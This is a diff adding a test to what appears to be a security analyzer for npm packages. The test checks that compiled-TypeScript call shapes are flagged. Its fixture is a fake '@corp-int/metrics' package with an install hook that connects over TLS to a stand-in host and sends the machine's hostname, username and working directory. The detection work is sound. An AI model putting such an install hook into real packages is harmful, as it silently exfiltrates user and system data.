@@ -364,3 +364,23 @@ runs:
     expect(threatsOf(r)).not.toContain('data_exfiltration');
   });
 });
+
+describe('compiled and callback shapes', () => {
+  it('TypeScript output: (0, mod.fn)() calls, and the socket written to from its own connect callback', () => {
+    const r = analyzeSource({
+      'package.json': pkg({
+        name: '@corp-int/metrics',
+        version: '99.1.0',
+        scripts: { install: 'node dist/i.js' },
+      }),
+      'dist/i.js': `"use strict";
+const tls_1 = require("tls"); const os_1 = require("os");
+const sock = (0, tls_1.connect)({ host: "telemetry.corp-int.example", port: 8443 }, () => {
+  sock.end(JSON.stringify({ h: (0, os_1.hostname)(), u: (0, os_1.userInfo)().username, d: process.cwd() }));
+});
+sock.on("error", () => undefined);`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+});
